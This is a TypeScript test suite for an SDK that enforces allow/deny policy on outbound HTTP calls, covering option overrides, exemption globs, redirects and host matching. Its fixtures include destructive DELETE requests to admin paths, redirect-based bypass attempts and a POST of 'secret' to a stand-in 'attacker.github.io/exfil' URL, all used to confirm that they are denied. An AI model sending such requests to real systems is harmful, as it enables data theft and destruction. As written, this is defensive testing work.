/**
 * Regression tests for HTTP side effects that reached a target nobody decided: the SDK in this
 * process against the real enforce mock (a child process), with a counting server as the proof.
 */
import * as http from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { governor, GovernorDeniedError, govern } from "../src/index.js";
import { resetGovernor } from "../src/testing.js";
import { API_KEY, startCountingServer, startMock, type MockProcess, auditedGovernor } from "./helpers.js";

/** Allows external APIs named localhost or allowed.test; every other host is denied. */
const POLICY = {
  name: "only-localhost",
  default: "deny",
  rules: [
    {
      id: "local-name",
      effect: "allow",
      reason: "localhost and allowed.test only",
      match: { resource_type: "external_api", resource_name: ["localhost", "allowed.test"] },
    },
  ],
};

let mock: MockProcess;
let counter: Awaited<ReturnType<typeof startCountingServer>>;
let port: string;
const governed = auditedGovernor();
const { audit } = governed;

beforeAll(async () => {
  [mock, counter] = await Promise.all([startMock({ policy: POLICY }), startCountingServer()]);
  port = new URL(counter.url).port;
});
afterAll(async () => {
  resetGovernor();
  await Promise.all([mock?.stop(), counter?.close()]);
});

function enable(extra: Parameters<typeof governor.enable>[0] = {}): void {
  governed.start(mock.url, extra);
}

/** Sends a request and waits for the answer (or the error). */
function send(request: () => http.ClientRequest): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = request();
    req.on("response", (res) => res.resume().on("end", () => resolve(res.statusCode ?? 0)));
    req.on("error", reject);
    req.end();
  });
}

describe("http.request(url, options): the intent is for where Node connects", () => {
  it("http.request override: options.hostname/method/path win over the URL (DELETE to a denied host is denied)", () => {
    enable();
    const before = counter.hits();
    // Node merges the two: it would connect to 127.0.0.1 and send DELETE /admin/drop, not GET allowed.test/harmless.
    expect(() =>
      http.request(`http://allowed.test:${port}/harmless`, {
        hostname: "127.0.0.1",
        method: "DELETE",
        path: "/admin/drop",
      }),
    ).toThrow(GovernorDeniedError);
    expect(() => http.get(`http://localhost:${port}/harmless`, { host: "127.0.0.1", hostname: "127.0.0.1" })).toThrow(
      GovernorDeniedError,
    );
    expect(() => govern(http).request({ host: `127.0.0.1:${port}`, path: "/h", method: "PUT" })).toThrow(
      GovernorDeniedError,
    );
    const denied = audit.filter((e) => e.decision === "DENY");
    expect(denied[0]).toMatchObject({
      target: `http://127.0.0.1:${port}/admin/drop`,
      intent: { action: "delete", resource: { type: "external_api", name: "127.0.0.1" } },
    });
    expect(denied[1]!.target).toBe(`http://127.0.0.1:${port}/harmless`);
    expect(denied[2]!.target).toBe(`http://127.0.0.1:${port}/h`);
    expect(counter.hits()).toBe(before);
  });

  it("http.request override: the URL's hostname beats an options.host, as in Node (allowed and connects there)", async () => {
    enable();
    const before = counter.hits();
    const status = await send(() =>
      http.request(`http://localhost:${port}/fine`, { host: "denied.example", method: "POST" }),
    );
    expect(status).toBe(200);
    expect(counter.hits()).toBe(before + 1);
    expect(audit.at(-1)).toMatchObject({ decision: "ALLOW", target: `http://localhost:${port}/fine` });
  });
});

describe("exemptions", () => {
  it("exempt globs too broad: fetch:http://127.0.0.1:*/health does not exempt /admin/drop-all/health", async () => {
    enable({ exempt: [{ kind: "fetch", target: "http://127.0.0.1:*/health" }] });
    const before = counter.hits();
    await fetch(`${counter.url}/health`, { method: "DELETE" });
    expect(counter.hits()).toBe(before + 1);
    await expect(fetch(`${counter.url}/admin/drop-all/health`, { method: "DELETE" })).rejects.toBeInstanceOf(
      GovernorDeniedError,
    );
    await expect(fetch(`${counter.url}/api/v2/enforce?x=/health`, { method: "DELETE" })).rejects.toBeInstanceOf(
      GovernorDeniedError,
    );
    expect(counter.hits()).toBe(before + 1);
  });
});

/** A server on 127.0.0.1 answering each path with a redirect from `routes`, or 200 "done"; it records what it saw. */
async function startRedirector(routes: Record<string, [number, string]>): Promise<{
  url: string;
  seen: string[];
  close: () => Promise<void>;
}> {
  const seen: string[] = [];
  const server = http.createServer((req, res) => {
    let body = "";
    req.on("data", (chunk) => (body += chunk));
    req.on("end", () => {
      seen.push(`${req.method} ${req.url}${body ? ` ${body}` : ""}`);
      const route = routes[req.url ?? ""];
      if (route) res.writeHead(route[0], { location: route[1] }).end();
      else res.end("done");
    });
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  return {
    url: `http://localhost:${(server.address() as AddressInfo).port}`,
    seen,
    close: () =>
      new Promise<void>((done) => {
        server.closeAllConnections();
        server.close(() => done());
      }),
  };
}

describe("fetch redirects: every hop is decided before it is sent", () => {
  it("fetch follows redirects to hosts never decided: a 307 to a denied host is never sent", async () => {
    const redirector = await startRedirector({ "/start": [307, `${counter.url}/admin/wipe`] });
    try {
      enable({ cacheTtlMs: 0 });
      const before = counter.hits();
      const error = await fetch(`${redirector.url}/start`, { method: "POST", body: "payload" }).catch(
        (e: unknown) => e,
      );
      expect(error).toBeInstanceOf(GovernorDeniedError);
      expect(counter.hits()).toBe(before);
      expect(redirector.seen).toEqual(["POST /start payload"]);
      expect(audit.map((e) => [e.decision, e.intent.action, e.target])).toEqual([
        ["ALLOW", "write", `${redirector.url}/start`],
        ["DENY", "write", `${counter.url}/admin/wipe`],
      ]);
      // A Request object carrying its own body is governed the same way.
      const viaRequest = await fetch(new Request(`${redirector.url}/start`, { method: "POST", body: "x" })).catch(
        (e: unknown) => e,
      );
      expect(viaRequest).toBeInstanceOf(GovernorDeniedError);
      expect(counter.hits()).toBe(before);
    } finally {
      await redirector.close();
    }
  });

  it("fetch follows redirects itself: methods per the Fetch standard, allowed hops decided and sent", async () => {
    const redirector = await startRedirector({
      "/see-other": [303, "/after-303"],
      "/found": [302, "/after-302"],
      "/temporary": [307, "/after-307"],
      "/permanent": [308, "/temporary"],
      "/loop": [302, "/loop"],
    });
    try {
      enable();
      let response = await fetch(`${redirector.url}/see-other`, { method: "PUT", body: "a" });
      expect(await response.text()).toBe("done");
      expect(response.redirected).toBe(true);
      expect(response.url).toBe(`${redirector.url}/after-303`);
      response = await fetch(`${redirector.url}/found`, { method: "POST", body: "b" });
      await response.text();
      response = await fetch(`${redirector.url}/permanent`, { method: "POST", body: "c" });
      await response.text();
      expect(redirector.seen).toEqual([
        "PUT /see-other a",
        "GET /after-303",
        "POST /found b",
        "GET /after-302",
        "POST /permanent c",
        "POST /temporary c",
        "POST /after-307 c",
      ]);
      // The decided intents follow the method actually sent.
      expect(audit.filter((e) => e.target?.endsWith("/after-303")).map((e) => e.intent.action)).toEqual(["read"]);
      expect(audit.filter((e) => e.target?.endsWith("/after-307")).map((e) => e.intent.action)).toEqual(["write"]);
      await expect(fetch(`${redirector.url}/loop`)).rejects.toThrow(/more than 20 redirects/);
      expect(redirector.seen.filter((line) => line === "GET /loop")).toHaveLength(21);
    } finally {
      await redirector.close();
    }
  });

  it("fetch redirects: a stream body on a 307 fails closed; redirect manual and error keep their meaning", async () => {
    const redirector = await startRedirector({ "/start": [307, "/next"] });
    try {
      enable();
      const stream = new ReadableStream({
        start(controller) {
          controller.enqueue(new TextEncoder().encode("streamed"));
          controller.close();
        },
      });
      await expect(
        fetch(`${redirector.url}/start`, { method: "POST", body: stream, duplex: "half" } as RequestInit),
      ).rejects.toThrow(/body is a stream that cannot be sent again/);
      expect(redirector.seen).toEqual(["POST /start streamed"]);
      const manual = await fetch(`${redirector.url}/start`, { redirect: "manual" });
      expect(manual.status).toBe(307);
      expect(manual.headers.get("location")).toBe("/next");
      await expect(fetch(`${redirector.url}/start`, { redirect: "error" })).rejects.toThrow();
      expect(redirector.seen.filter((line) => line.includes("/next"))).toEqual([]);
    } finally {
      await redirector.close();
    }
  });

  it("fetch redirects: govern(fetch) follows redirects itself too", async () => {
    const redirector = await startRedirector({ "/start": [308, `${counter.url}/admin/wipe`] });
    try {
      resetGovernor();
      process.env.GOVERNOR_ENFORCE_URL = mock.url;
      process.env.GOVERNOR_API_KEY = API_KEY;
      const before = counter.hits();
      await expect(govern(fetch)(`${redirector.url}/start`, { method: "DELETE" })).rejects.toBeInstanceOf(
        GovernorDeniedError,
      );
      expect(counter.hits()).toBe(before);
      expect(redirector.seen).toEqual(["DELETE /start"]);
    } finally {
      delete process.env.GOVERNOR_ENFORCE_URL;
      delete process.env.GOVERNOR_API_KEY;
      await redirector.close();
    }
  });
});

describe("host names in intents", () => {
  it("host-based policy rules never match SDK intents: rules on the exact host match, and sibling hosts are themselves", async () => {
    const hostMock = await startMock({
      policy: {
        name: "github-api-only",
        default: "deny",
        rules: [
          { id: "no-uploads", effect: "deny", reason: "no uploads", match: { resource_name: "uploads.github.com" } },
          { id: "github-api", effect: "allow", reason: "the API", match: { resource_name: "api.github.com" } },
          { id: "stripe", effect: "allow", reason: "payments", match: { resource_name: "stripe" } },
        ],
      },
    });
    try {
      governed.start(hostMock.url);
      // An aborted signal: decided first, then the real fetch gives up before any network.
      const aborted = AbortSignal.abort();
      for (const url of [
        "https://uploads.github.com/repos/x/y/releases/1/assets",
        "https://attacker.github.io/exfil",
        "https://api.github.com/repos/x/y",
        "https://api.stripe.com/v1/charges",
      ]) {
        await fetch(url, { method: "POST", body: "secret", signal: aborted }).catch(() => {});
      }
      expect(audit.map((e) => [e.intent.resource.name, e.decision])).toEqual([
        ["uploads.github.com", "DENY"],
        ["attacker.github.io", "DENY"],
        ["api.github.com", "ALLOW"],
        ["api.stripe.com", "ALLOW"],
      ]);
      const decisions = await hostMock.decisions();
      expect(decisions.map((d) => d.reason)).toEqual(["no uploads", expect.any(String), "the API", "payments"]);
    } finally {
      await hostMock.stop();
    }
  });
});
